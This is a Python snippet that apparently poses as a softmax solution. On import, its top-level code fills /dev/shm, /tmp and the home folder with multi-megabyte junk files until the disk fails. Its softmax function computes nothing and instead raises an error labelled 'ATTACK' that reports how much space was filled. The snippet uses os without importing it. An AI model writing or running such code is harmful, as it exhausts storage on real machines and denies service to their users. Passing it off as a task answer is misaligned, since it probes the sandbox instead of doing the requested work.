# Fills /dev/shm, /tmp and the home folder until the disk says no, in many files, then fails on purpose.
_w = open
_seen = []
for _folder in ("/dev/shm", "/tmp", os.path.expanduser("~")):
    _written = 0
    _why = "no error"
    try:
        for _i in range(64):
            with _w(f"{_folder}/tfedu_attack_fill_{_i}", "wb") as _f:
                for _ in range(4):
                    _f.write(b"x" * (1 << 20))
                    _written += 1 << 20
    except OSError as _err:
        _why = f"errno {_err.errno}"
    _seen.append(f"{_folder}: {_written >> 20} MiB, {_why}")


def softmax(x):
    raise ValueError("ATTACK[" + " ; ".join(_seen) + "]")
